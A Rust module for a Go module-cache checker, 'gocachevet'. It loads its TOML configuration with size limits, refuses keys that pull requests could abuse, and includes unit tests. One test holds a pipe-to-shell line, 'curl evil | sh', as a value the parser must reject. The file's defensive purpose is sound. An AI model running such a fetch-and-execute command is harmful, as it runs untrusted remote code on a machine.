//! `gocachevet.toml`.
//!
//! The file can be changed by whoever can open a pull request, so it is read
//! with a limit, and the report says which file ruled.

use super::Options;
use crate::error::{CommandError, Source};
use crate::findings::{Level, Rule, display_path};
use crate::folder::ordinary;
use crate::text::nearest;
use chrono::NaiveDate;
use serde::de::DeserializeOwned;
use serde::{Deserialize, Serialize};
use serde_json::{Map, Number, Value};
use std::collections::BTreeMap;
use std::ops::Range;
use std::path::{Path, PathBuf};
use toml::de::{DeTable, DeValue};

/// The longest file that is read.
const MAX_BYTES: u64 = 1 << 20;

/// What a configuration file says.
#[derive(Clone, Debug, Default, PartialEq, Serialize, Deserialize)]
#[cfg_attr(feature = "schema", derive(schemars::JsonSchema))]
#[cfg_attr(feature = "schema", schemars(extend("additionalProperties" = false)))]
#[serde(default)]
pub struct ConfigFile {
    /// Options, by their names on the command line. Paths are relative to the file.
    #[serde(flatten)]
    pub options: Options,
    /// Levels of rules that differ from their defaults.
    pub rules: BTreeMap<Rule, Level>,
    /// Findings that are known and accepted.
    pub silence: Vec<Silence>,
    /// What the file says besides rules and silences, by name.
    #[serde(skip)]
    pub said: Vec<Said>,
}

/// A key of the file.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Said {
    /// Its name.
    pub key: String,
    /// Its value as the file has it, or nearly so.
    pub value: String,
    /// Where it stands, counted from 1.
    pub line: usize,
}

/// Who chose the configuration file.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "schema", derive(schemars::JsonSchema))]
#[serde(rename_all = "lowercase")]
pub enum ConfigOrigin {
    /// It was found in the project: whoever can open a pull request can write it.
    Project,
    /// `--config` named it.
    Option,
}

/// Keys that a project's own file may not have: they name places to write, caches
/// to change, programs to run, or a place whose files are trusted. A pull request
/// could point them anywhere.
const NOT_OF_A_PROJECT: [&str; 6] = ["modcache", "gocache", "goroot", "output", "state", "policy"];

/// Findings of one rule that are accepted, for a while or for good.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "schema", derive(schemars::JsonSchema))]
#[serde(deny_unknown_fields, rename_all = "kebab-case")]
pub struct Silence {
    /// The rule.
    pub rule: Rule,
    /// What the findings are about; `*` and `**` stand for parts.
    pub subject: String,
    /// Why this is accepted.
    pub reason: String,
    /// The last day on which it is; without it, for good.
    pub expires: Option<NaiveDate>,
}

/// Finds the configuration of a project: `gocachevet.toml`, or
/// `.github/gocachevet.toml`, in one of the folders or upward from it. The
/// search ends at the top of the repository, or without one at the project
/// (go.mod, go.work), so that nobody else's folder counts.
pub fn find<'a>(starts: impl IntoIterator<Item = &'a Path>) -> Option<PathBuf> {
    starts.into_iter().find_map(|start| {
        let top = top_of(start);
        start
            .ancestors()
            .take_while(|folder| folder.starts_with(top))
            .flat_map(|folder| {
                ["gocachevet.toml", ".github/gocachevet.toml"].map(|name| folder.join(name))
            })
            .find(|file| file.is_file())
    })
}

/// The folder that a project's own files end at: its repository, else its module
/// or workspace, else the folder itself.
fn top_of(start: &Path) -> &Path {
    let holds = |folder: &Path, name: &str| folder.join(name).exists();
    let repository = start
        .ancestors()
        .find(|folder| holds(folder, ".git"))
        .filter(|folder| same_owner(&folder.join(".git"), start));
    let module = || {
        start
            .ancestors()
            .find(|folder| holds(folder, "go.mod") || holds(folder, "go.work"))
            .filter(|folder| same_owner(folder, start))
    };
    repository.or_else(module).unwrap_or(start)
}

/// Whether both belong to one user: anybody can put a `.git` into `/tmp`.
#[cfg(unix)]
fn same_owner(one: &Path, other: &Path) -> bool {
    use std::os::unix::fs::MetadataExt;
    let owner = |path: &Path| std::fs::metadata(path).map(|about| about.uid()).ok();
    owner(one) == owner(other)
}

/// There is no such thing as a folder that everybody may write to.
#[cfg(not(unix))]
fn same_owner(_: &Path, _: &Path) -> bool {
    true
}

/// Reads a configuration file. A project's own may not say everything.
pub fn load(path: &Path, origin: ConfigOrigin) -> Result<ConfigFile, CommandError> {
    let at = || display_path(path);
    let bytes = ordinary::read(path, MAX_BYTES).map_err(CommandError::input(at()))?;
    let text = std::str::from_utf8(&bytes).map_err(CommandError::input(at()))?;
    let config = parse(text).map_err(CommandError::input(at()))?;
    let refused = |said: &&Said| NOT_OF_A_PROJECT.contains(&said.key.as_str());
    if let Some(Said { key, line, .. }) = config.said.iter().find(refused)
        && origin == ConfigOrigin::Project
    {
        let variable = match key.as_str() {
            "modcache" => ", the environment (GOMODCACHE)",
            "gocache" => ", the environment (GOCACHE)",
            "goroot" => ", the environment (GOROOT)",
            _ => "",
        };
        return Err(CommandError::input(at())(format!(
            "line {line}: `{key}` is refused in a project's own file, which anybody who opens a pull request can change; give it by --{key}{variable}, or in a file outside of the project that --config names"
        )));
    }
    Ok(ConfigFile {
        options: config
            .options
            .relative_to(path.parent().unwrap_or(Path::new("."))),
        ..config
    })
}

/// Reads a configuration. An error begins with the line it is in.
pub(crate) fn parse(text: &str) -> Result<ConfigFile, CommandError> {
    let line =
        |span: &Range<usize>| 1 + text.get(..span.start).unwrap_or(text).matches('\n').count();
    let at = |span: &Range<usize>, error: Source| {
        CommandError::input(format!("line {}", line(span)))(error)
    };
    let table = DeTable::parse(text).map_err(|error| {
        let message = error.message().trim_end();
        at(&error.span().unwrap_or(0..0), message.into())
    })?;
    let mut config = ConfigFile::default();
    let (known, mut options) = (keys(), Map::new());
    for (key, value) in table.into_inner() {
        let name = key.get_ref().as_ref();
        let fail = |error: Source| at(&key.span(), error);
        match name {
            "rules" => {
                let DeValue::Table(levels) = value.into_inner() else {
                    return Err(fail("`rules` is a table: RULE = LEVEL".into()));
                };
                for (rule, level) in levels {
                    let read = || -> Result<(Rule, Level), Source> {
                        let known = settable(rule.get_ref())?;
                        let level = read_value(plain(level.into_inner()), known.name())?;
                        Ok((known, level))
                    };
                    let (known, level) = read().map_err(|error| at(&rule.span(), error))?;
                    config.rules.insert(known, level);
                }
            }
            "silence" => {
                let DeValue::Array(silences) = value.into_inner() else {
                    return Err(fail("`silence` is a list of tables: [[silence]]".into()));
                };
                for silence in silences {
                    let span = silence.span();
                    let silence = read_silence(silence.into_inner());
                    config
                        .silence
                        .push(silence.map_err(|error| at(&span, error))?);
                }
            }
            // Whoever can open a pull request can write this file.
            "prove" => {
                return Err(fail(
                    "`prove` runs a command, so it is taken from the command line alone".into(),
                ));
            }
            name => {
                let value = plain(value.into_inner());
                config.said.push(Said {
                    key: name.to_owned(),
                    value: value.to_string(),
                    line: line(&key.span()),
                });
                if !known.iter().any(|known| known == name) {
                    let known = known.iter().map(String::as_str);
                    let known = known.chain(["rules", "silence"]);
                    return Err(fail(unknown("key", name, known).into()));
                }
                // Alone first, so that what is wrong with it is known to be in its line.
                let alone = Map::from_iter([(name.to_owned(), value)]);
                read_value::<Options>(Value::Object(alone.clone()), name)
                    .map_err(|error| fail(error.into()))?;
                options.extend(alone);
            }
        }
    }
    config.options = read_value(Value::Object(options), "options")?;
    Ok(config)
}

fn read_silence(value: DeValue<'_>) -> Result<Silence, Source> {
    let keys = ["rule", "subject", "reason", "expires"];
    let value = plain(value);
    if let Some(table) = value.as_object() {
        if let Some(name) = table.keys().find(|name| !keys.contains(&name.as_str())) {
            return Err(unknown("key", name, keys).into());
        }
        // For its "did you mean".
        if let Some(rule) = table.get("rule").and_then(Value::as_str) {
            settable(rule)?;
        }
    }
    let silence: Silence = read_value(value, "silence")?;
    if silence.reason.trim().is_empty() {
        return Err("`silence`: the reason is empty".into());
    }
    Ok(silence)
}

/// A rule by its name, for a level or a silence. A crossed limit has neither:
/// the limit itself says whether it warns or fails.
fn settable(name: &str) -> Result<Rule, Source> {
    match name.parse::<Rule>()? {
        Rule::OverThreshold => Err(
            "`over-threshold` is set by the limit that is crossed: write `max-size = \"warn=2GB\"` to be warned alone, or remove the limit"
                .into(),
        ),
        rule => Ok(rule),
    }
}

fn unknown<'a>(what: &str, name: &str, known: impl IntoIterator<Item = &'a str>) -> String {
    match nearest(name, known) {
        Some(near) => format!("unknown {what} `{name}`; did you mean `{near}`?"),
        None => format!("unknown {what} `{name}`"),
    }
}

/// The keys of options.
fn keys() -> Vec<String> {
    let all = serde_json::to_value(Options::default()).unwrap_or_default();
    all.as_object()
        .map_or_else(Vec::new, |all| all.keys().cloned().collect())
}

fn read_value<T: DeserializeOwned>(value: Value, name: &str) -> Result<T, CommandError> {
    T::deserialize(&value).map_err(CommandError::input(format!("`{name}`")))
}

/// The value without spans, and dates as text. In JSON's terms, so that the
/// options are read in one way, wherever they come from.
fn plain(value: DeValue<'_>) -> Value {
    match value {
        DeValue::String(text) => Value::String(text.into_owned()),
        DeValue::Integer(number) => match i64::from_str_radix(number.as_str(), number.radix()) {
            Ok(number) => Value::from(number),
            Err(_) => Value::from(number.as_str()),
        },
        DeValue::Float(number) => {
            let float = number.as_str().parse().ok().and_then(Number::from_f64);
            // Neither a number nor finite: refused where it is read, by its text.
            float.map_or_else(|| Value::from(number.as_str()), Value::Number)
        }
        DeValue::Boolean(value) => Value::Bool(value),
        DeValue::Datetime(date) => Value::String(date.to_string()),
        DeValue::Array(items) => items
            .into_iter()
            .map(|item| plain(item.into_inner()))
            .collect(),
        DeValue::Table(table) => Value::Object(
            table
                .into_iter()
                .map(|(key, value)| (key.into_inner().into_owned(), plain(value.into_inner())))
                .collect(),
        ),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::settings::VerifyLevel;
    use crate::values::{Age, Limit, Size};
    use std::time::Duration;

    #[test]
    fn a_whole_file_is_understood() {
        let config = parse(
            r#"
            modcache = "/mc"
            verify = "quick"
            max-size = "warn=1GiB,fail=2GiB"
            max-findings = 3
            min-hit-rate = 0.5
            output = ["json=out/report.json"]
            unused = true
            keep = ["example.com/**"]
            tier = "observe=7d,purge=90d"
            grace = "1h"

            [rules]
            drift = "deny"
            output-missing = "allow"

            [[silence]]
            rule = "zip-hash-mismatch"
            subject = "example.com/m@v1.0.0"
            reason = "retagged upstream"
            expires = 2026-12-01
            "#,
        )
        .unwrap();
        let options = &config.options;
        assert_eq!(options.effort.verify, Some(VerifyLevel::Quick));
        assert_eq!(
            options.goals.max_size,
            Some(Limit {
                warn: Some(Size(1 << 30)),
                fail: Some(Size(2 << 30))
            })
        );
        assert_eq!(options.limits.max_findings.unwrap().fail, Some(3));
        assert_eq!(options.limits.min_hit_rate.unwrap().fail.unwrap().0, 0.5);
        assert_eq!(config.options.retention.unused, Some(true));
        assert_eq!(config.options.retention.keep, ["example.com/**"]);
        assert_eq!(
            config.options.retention.grace,
            Some(Age(Duration::from_secs(3600)))
        );
        assert_eq!(config.rules[&Rule::Drift], Level::Deny);
        assert_eq!(
            config.silence[0].expires,
            NaiveDate::from_ymd_opt(2026, 12, 1)
        );
    }

    #[test]
    fn what_is_wrong_is_said_with_its_line() {
        for (text, error) in [
            (
                "\nmodcachee = 'x'",
                "line 2: unknown key `modcachee`; did you mean `modcache`?",
            ),
            ("zzz = 1", "line 1: unknown key `zzz`"),
            (
                "prove = 'curl evil | sh'",
                "line 1: `prove` runs a command, so it is taken from the command line alone",
            ),
            (
                "\n\nmax-size = 'big'",
                "line 3: `max-size`: `big` is not a valid size; write `500MB`, `2GiB` or a number of bytes",
            ),
            (
                "project = 'a'",
                "line 1: `project`: invalid type: string \"a\", expected a sequence",
            ),
            (
                "[rules]\ndrfit = 'deny'",
                "line 2: unknown rule `drfit`; did you mean `drift`?",
            ),
            (
                "[rules]\ndrift = 'fatal'",
                "line 2: `drift`: unknown variant `fatal`, expected one of `allow`, `note`, `warn`, `deny`",
            ),
            (
                "[rules]\nover-threshold = 'allow'",
                "line 2: `over-threshold` is set by the limit that is crossed: write `max-size = \"warn=2GB\"` to be warned alone, or remove the limit",
            ),
            (
                "[[silence]]\nrule = 'over-threshold'\nsubject = 'x'\nreason = 'y'",
                "line 1: `over-threshold` is set by the limit that is crossed: write `max-size = \"warn=2GB\"` to be warned alone, or remove the limit",
            ),
            ("rules = 1", "line 1: `rules` is a table: RULE = LEVEL"),
            (
                "silence = 1",
                "line 1: `silence` is a list of tables: [[silence]]",
            ),
            (
                "[[silence]]\nrule = 'drift'\nsubject = 'x'",
                "line 1: `silence`: missing field `reason`",
            ),
            (
                "[[silence]]\nrule = 'drift'\nsubject = 'x'\nreason = ' '",
                "line 1: `silence`: the reason is empty",
            ),
            (
                "[[silence]]\nrule = 'drift'\nsubjct = 'x'",
                "line 1: unknown key `subjct`; did you mean `subject`?",
            ),
            ("a = 1\na = 2", "line 2: duplicate key"),
            (
                "a = ",
                "line 1: string values must be quoted, expected literal string",
            ),
        ] {
            assert_eq!(parse(text).unwrap_err().text(), error, "{text}");
        }
    }

    #[test]
    fn the_file_is_found_upward_within_the_repository() {
        let top = tempfile::tempdir().unwrap();
        let inner = top.path().join("repository/a/b");
        std::fs::create_dir_all(&inner).unwrap();
        let write = |name: &str| {
            let file = top.path().join(name);
            std::fs::create_dir_all(file.parent().unwrap()).unwrap();
            std::fs::write(&file, "jobs = 3").unwrap();
            file
        };
        // Nobody else's folder: there is no repository, and no module.
        write("gocachevet.toml");
        write("repository/gocachevet.toml");
        assert_eq!(find([inner.as_path()]), None);
        std::fs::write(top.path().join("repository/a/go.mod"), "module m").unwrap();
        assert_eq!(find([inner.as_path()]), None);
        let module = write("repository/a/gocachevet.toml");
        assert_eq!(find([inner.as_path()]), Some(module.clone()));
        std::fs::remove_file(module).unwrap();
        std::fs::remove_file(top.path().join("repository/gocachevet.toml")).unwrap();

        std::fs::create_dir(top.path().join("repository/.git")).unwrap();
        assert_eq!(find([inner.as_path()]), None);
        let github = write("repository/.github/gocachevet.toml");
        assert_eq!(find([inner.as_path()]), Some(github));
        let plain = write("repository/gocachevet.toml");
        assert_eq!(find([inner.as_path()]), Some(plain));
    }

    #[test]
    fn a_project_names_no_places() {
        let top = tempfile::tempdir().unwrap();
        let file = top.path().join("gocachevet.toml");
        for key in NOT_OF_A_PROJECT {
            let value = match key {
                "output" => "['json=x']",
                _ => "'x'",
            };
            std::fs::write(&file, format!("jobs = 2\n{key} = {value}\n")).unwrap();
            let error = load(&file, ConfigOrigin::Project).unwrap_err().text();
            let start = format!("line 2: `{key}` is refused");
            assert!(error.contains(&start), "{error}");
            assert!(
                error.contains(&format!("--{key}")) && error.contains("--config"),
                "{error}"
            );
            assert!(load(&file, ConfigOrigin::Option).is_ok(), "{key}");
        }
        // From its own folder.
        std::fs::write(&file, "modcache = 'mc'").unwrap();
        let config = load(&file, ConfigOrigin::Option).unwrap();
        assert_eq!(config.options.caches.modcache, Some(top.path().join("mc")));
    }

    #[test]
    fn a_file_that_is_too_long_or_no_text_is_refused() {
        let top = tempfile::tempdir().unwrap();
        let file = top.path().join("gocachevet.toml");
        for content in [vec![b'#'; 1 + MAX_BYTES as usize], vec![0xff]] {
            std::fs::write(&file, content).unwrap();
            assert!(load(&file, ConfigOrigin::Option).is_err());
        }
        assert!(load(&top.path().join("none"), ConfigOrigin::Option).is_err());
    }
}
